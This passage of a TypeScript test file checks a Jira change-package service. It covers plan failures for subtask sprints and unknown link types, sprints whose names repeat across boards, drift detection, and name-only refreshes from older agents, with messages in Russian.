    const before = await rowCounts(hub, tables);
    const res = await attach('apply').expect(422);
    expect(res.body.error).toBe('plan_failed');
    expect(res.body.findings).toEqual([
      expect.objectContaining({ seq: 2, param: 'key', code: 'subtask_sprint', file: 'issues.csv', row: 2, column: 'Спринт' }),
      expect.objectContaining({ seq: 3, param: 'key', code: 'subtask_sprint', file: 'issues.csv', row: 3, column: 'Спринт' }),
    ]);
    expect(res.body.detail).toContain('issues.csv, строка 2, «Спринт»: key: AURORA-3 — подзадача');
    expect(res.body.detail).toContain('issues.csv, строка 3, «Спринт»: key: new:1 — подзадача («Sub-task»): Jira не переносит подзадачи в спринт отдельно, они идут в спринт вместе с родительской задачей AURORA-1');
    expect(await rowCounts(hub, tables)).toEqual(before);
  });

  it('apply is refused with the file and row of each finding, not a command number the files never showed; nothing stored', async () => {
    const tables = ['package', 'batch', 'command'];
    const before = await rowCounts(hub, tables);
    const res = await send('apply').expect(422);
    expect(res.body.error).toBe('plan_failed');
    expect(res.body.detail).toMatch(/^план пакета не пройдёт в Jira: links\.csv, строка 3: link_type: типа связи «зависит» в Jira нет; есть: Blocks .* → одно из: Blocks, Relates, Duplicate$/);
    expect(res.body.findings).toEqual([expect.objectContaining({ seq: 3, param: 'link_type', code: 'unknown_link_type', file: 'links.csv', row: 3 })]);
    expect(res.body.errors).toEqual([{ field: 'links.csv:3', detail: expect.stringContaining('link_type: типа связи «зависит»') }]);
    expect(await rowCounts(hub, tables)).toEqual(before);
  });
});

describe('a package sprint on a named board, where sprint names repeat across boards (decisions 1423, 1430)', () => {
  // «Спринт 3» is sprint 12 of «AURORA board» and sprint 21 of «Поддержка» (the catalogue).
  let hub: TestHub;
  let agent: ReturnType<typeof agentOf>;
  const refresh = async (issues: Record<string, unknown>[]) => {
    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: issues.map((i) => i.key) } }] }).expect(201);
    await agent.done((await agent.claim()).command.id, refreshResult(issues));
  };
  beforeEach(async () => {
    hub = await startHub();
    agent = agentOf(hub);
    await reportCatalogue(hub);
  });
  afterEach(() => hub.close());

  const issues = `${HEADER}\nAURORA-4;;;;;;;;;Спринт 3;Поддержка`;
  const apply = () => hub.http.post('/packages/apply').attach('issues', Buffer.from(issues), 'issues.csv').expect(200);

  it("with the sprint's id in the mirror, plan and drift compare exactly: the right board's sprint matches, the other board's is a difference with its way back", async () => {
    await refresh([{ key: 'AURORA-4', sprint: 'Спринт 3', sprint_id: 21, sprint_board_id: 2 }]);
    const applied = (await apply()).body;
    expect(applied).toMatchObject({ batch: null, plan: { commands: [], findings: [] } });
    expect((await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body).toMatchObject({ matches: true, fields: [], findings: [] });
    // Someone moves AURORA-4 to the other board's «Спринт 3».
    await refresh([{ key: 'AURORA-4', sprint: 'Спринт 3', sprint_id: 12, sprint_board_id: 1 }]);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ matches: false, findings: [] });
    expect(drift.fields).toEqual([{ key: 'AURORA-4', jira_key: 'AURORA-4', row: 2, field: 'sprint', wanted: 'Спринт 3 (доска «Поддержка»)', actual: 'Спринт 3 (доска «AURORA board»)' }]);
    const back = (await hub.http.post(`/packages/${applied.package.id}/plan`).expect(200)).body;
    expect(back.commands.map((c: { type: string; params: object; verdict: string }) => [c.type, c.params, c.verdict])).toEqual([['ensure_sprint', { key: 'AURORA-4', sprint: 'Спринт 3', board: 'Поддержка' }, 'would_change']]);
    expect(back.findings).toEqual([]);
  });

  it("an export writes the board of a sprint whose name repeats, so the exported package sends an issue back to that board's sprint and drift sees a move to the other's", async () => {
    await refresh([
      { key: 'AURORA-4', sprint: 'Спринт 3', sprint_id: 21, sprint_board_id: 2 },
      { key: 'AURORA-5', sprint: 'Спринт 2', sprint_id: 11, sprint_board_id: 1 },
      { key: 'AURORA-6', sprint: 'Спринт 3' },
    ]);
    const exported = (await hub.app.get(ExportService).export('key in (AURORA-4, AURORA-5, AURORA-6)')).files['issues.csv'];
    // «Спринт 2» is one board's only: no board needed; a name-only mirror row cannot say which board.
    expect(exported.split('\r\n').slice(1, 4).map((line) => line.split(';').slice(9))).toEqual([
      ['Спринт 3', 'Поддержка'],
      ['Спринт 2', ''],
      ['Спринт 3', ''],
    ]);
    const applied = (await hub.http.post('/packages/apply').attach('issues', Buffer.from(exported), 'issues.csv').expect(200)).body;
    expect(applied).toMatchObject({ batch: null });
    // AURORA-4 goes to the other board's «Спринт 3»: drift sees it, and the package sends it back to its board.
    await refresh([{ key: 'AURORA-4', sprint: 'Спринт 3', sprint_id: 12, sprint_board_id: 1 }]);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift.fields).toEqual([expect.objectContaining({ key: 'AURORA-4', field: 'sprint', wanted: 'Спринт 3 (доска «Поддержка»)', actual: 'Спринт 3 (доска «AURORA board»)' })]);
    // Or to the backlog: the package puts it back into that board's sprint, not refused as ambiguous.
    await refresh([{ key: 'AURORA-4', sprint: null }]);
    const back = (await hub.http.post(`/packages/${applied.package.id}/plan`).expect(200)).body;
    expect(back.commands.map((c: { type: string; params: object }) => [c.type, c.params])).toEqual([['ensure_sprint', { key: 'AURORA-4', sprint: 'Спринт 3', board: 'Поддержка' }]]);
    expect(back.dry_run).toMatchObject({ ok: true, findings: [] });
  });

  it("a board with no open sprint of the name: the plan names the row instead of a move Jira would refuse, and apply sends the rest (decision 1435)", async () => {
    // «Спринт 2» is open on AURORA board only. AURORA-4 is in it; AURORA-5 is in Поддержка's «Спринт 2», closed (the backlog).
    await refresh([
      { key: 'AURORA-4', sprint: 'Спринт 2', sprint_id: 11, sprint_board_id: 1, sprint_state: 'active' },
      { key: 'AURORA-5', sprint: 'Спринт 2', sprint_id: 30, sprint_board_id: 2, sprint_state: 'closed' },
      { key: 'AURORA-6' },
    ]);
    const rows = `${HEADER}\nAURORA-4;;;;;;;;;Спринт 2;Поддержка\nAURORA-5;;;;;;;;;Спринт 2;Поддержка\nAURORA-6;;;;2026-12-20;;;;;;`;
    const plan = (await hub.http.post('/packages/plan').attach('issues', Buffer.from(rows), 'issues.csv').expect(200)).body;
    expect(plan.commands.map((c: { type: string; params: object; verdict: string }) => [c.type, c.params, c.verdict])).toEqual([['ensure_fields', { key: 'AURORA-6', duedate: '2026-12-20' }, 'would_change']]);
    expect(plan.dry_run).toMatchObject({ ok: true, findings: [] });
    expect(plan.findings).toEqual([
      {
        file: 'issues.csv',
        row: 2,
        column: 'Доска',
        code: 'sprint_not_on_board',
        detail: 'AURORA-4: на доске «Поддержка» нет активного или будущего спринта «Спринт 2»; такой спринт есть на доске «AURORA board» — перенести задачу туда нельзя, поэтому переноса в плане нет: укажите открытый спринт этой доски или другую доску',
      },
      expect.objectContaining({ row: 3, column: 'Доска', code: 'sprint_not_on_board', detail: expect.stringContaining('AURORA-5: на доске «Поддержка» нет активного или будущего спринта «Спринт 2»: спринт «Спринт 2» этой доски закрыт, задача в бэклоге') }),
    ]);
    expect(planText(plan)).toContain('AURORA-5: на доске «Поддержка»');
    const applied = (await hub.http.post('/packages/apply').attach('issues', Buffer.from(rows), 'issues.csv').expect(200)).body;
    expect(applied.batch.commands.map((c: { type: string }) => c.type)).toEqual(['ensure_fields', 'refresh']);
  });

  it("an older agent's name-only refresh is accepted: the plan leaves it to Jira with a finding, drift does not count it (decision 1423)", async () => {
    await refresh([{ key: 'AURORA-4', sprint: 'Спринт 3' }]);
    const plan = (await hub.http.post('/packages/plan').attach('issues', Buffer.from(issues), 'issues.csv').expect(200)).body;
    expect(plan.commands.map((c: { type: string; params: object; verdict: string }) => [c.type, c.params, c.verdict])).toEqual([['ensure_sprint', { key: 'AURORA-4', sprint: 'Спринт 3', board: 'Поддержка' }, 'cannot_judge']]);
    expect(plan.findings).toEqual([expect.objectContaining({ code: 'sprint_board_unknown', detail: expect.stringContaining('агент старой версии') })]);
    const applied = (await apply()).body;
    expect(applied.batch.commands.map((c: { type: string }) => c.type)).toEqual(['ensure_sprint', 'refresh']);
    const drift = (await hub.http.get(`/packages/${applied.package.id}/drift`).expect(200)).body;
    expect(drift).toMatchObject({ fields: [], findings: [expect.objectContaining({ code: 'sprint_board_unknown' })] });
  });
});
